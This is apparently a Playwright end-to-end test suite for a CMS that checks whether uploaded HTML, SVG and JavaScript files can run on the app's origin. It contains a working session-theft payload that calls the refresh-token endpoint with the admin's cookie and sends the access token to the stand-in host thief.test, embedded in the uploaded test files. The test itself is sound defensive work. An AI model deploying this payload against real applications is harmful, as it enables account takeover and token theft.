import fs from 'node:fs';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { adminInBrowser, type AdminPage } from './support/admin-browser';
import { expectConsoleErrors, launch } from './support/app';
import { describeBrowser } from './support/browser';

/**
 * A page or script left under /uploads never runs on the app's origin: an admin who opens its
 * link (or a page that pulls it in as a script) keeps their session. The payload would renew the
 * session through the refresh cookie and send the access token away.
 */

const UPLOADS_DIR = path.join(__dirname, '..', '..', 'cms', 'public', 'uploads');
const tag = randomUUID().slice(0, 8);
/** Marked so the app's own renewals are told apart from the payload's. */
const STEAL =
  'fetch("/api/auth/refresh-token?stolen=1",{method:"POST",credentials:"include"}).then(r=>r.json()).then(b=>fetch("https://thief.test/?t="+b.data.access_token)).catch(()=>fetch("https://thief.test/?failed=1"))';
const FILES: Record<string, string> = {
  [`e2e-${tag}.html`]: `<!doctype html><html><body><script>${STEAL}</script><script src="e2e-${tag}.js"></script></body></html>`,
  [`e2e-${tag}.js`]: STEAL,
  [`e2e-${tag}.svg`]: `<svg xmlns="http://www.w3.org/2000/svg" onload='${STEAL}'><script>${STEAL}</script></svg>`,
};

/** Requests the payload made from a page: to the refresh endpoint (marked) or to the thief. */
const watch = (page: Page): string[] => {
  const stolen: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('stolen=1') || r.url().includes('thief.test')) stolen.push(r.url());
  });
  return stolen;
};

/**
 * Lets whatever the page would run, run (a fetch chain takes a few round trips). An absence is
 * watched for a while: the wait is the point.
 */
const settle = (page: Page) => page.waitForTimeout(1500);

describeBrowser('files under /uploads in the browser', () => {
  let browser: Browser;
  let admin: AdminPage;
  beforeAll(async () => {
    fs.mkdirSync(UPLOADS_DIR, { recursive: true });
    for (const [name, content] of Object.entries(FILES)) fs.writeFileSync(path.join(UPLOADS_DIR, name), content);
    browser = await launch();
    admin = await adminInBrowser(browser, 'Uma');
    // The thief's server, as far as the browser can tell.
    await admin.context.route('https://thief.test/**', (route) => route.fulfill({ status: 204 }));
  });
  afterAll(async () => {
    await browser?.close();
    for (const name of Object.keys(FILES)) fs.rmSync(path.join(UPLOADS_DIR, name), { force: true });
  });

  it('the payload works when it does run on the origin (so its silence below means something)', async () => {
    const page = await admin.context.newPage();
    const stolen = watch(page);
    // Once the app has restored its own session: a renewal racing the app's would be refused (the
    // cookie rotates), which is not what this test is about.
    await page.goto('/admin/users', { waitUntil: 'networkidle' });
    const sent = page.waitForRequest((r) => r.url().includes('thief.test'));
    // The test itself runs it (through DevTools, past the page's CSP).
    await page.evaluate(STEAL);
    await sent;
    expect(stolen).toEqual([expect.stringContaining('stolen=1'), expect.stringMatching(/^https:\/\/thief\.test\/\?t=ey/)]);
    await page.close();
  });

  it.each([`/uploads/e2e-${tag}.html`, `/uploads/e2e-${tag}.svg`, `/%75ploads/e2e-${tag}.html`])('opening %s runs nothing', async (url) => {
    const page = await admin.context.newPage();
    expectConsoleErrors(page, /Blocked script execution in .* the document's frame is sandboxed/, 'the uploaded page is sandboxed: its script is refused');
    const stolen = watch(page);
    // A download is not a page: Chromium aborts the navigation.
    await page.goto(url).catch(() => undefined);
    await settle(page);
    expect({ url, stolen }).toEqual({ url, stolen: [] });
    await page.close();
  });

  it('an app page that pulls in the uploaded script or frames the uploaded page runs neither', async () => {
    const page = await admin.context.newPage();
    expectConsoleErrors(page, /Refused to execute script from .*\/uploads\/.* is not executable/, 'an uploaded file is never served as a script');
    expectConsoleErrors(page, /Blocked script execution in .* the document's frame is sandboxed/, 'the uploaded page is sandboxed: its script is refused');
    const stolen = watch(page);
    await page.goto('/admin/users');
    await page.evaluate((name) => {
      const script = document.createElement('script');
      script.src = `/uploads/${name}.js`;
      document.head.append(script);
      const frame = document.createElement('iframe');
      frame.src = `/uploads/${name}.html`;
      document.body.append(frame);
    }, `e2e-${tag}`);
    await settle(page);
    expect(stolen).toEqual([]);
    await page.close();
  });
});
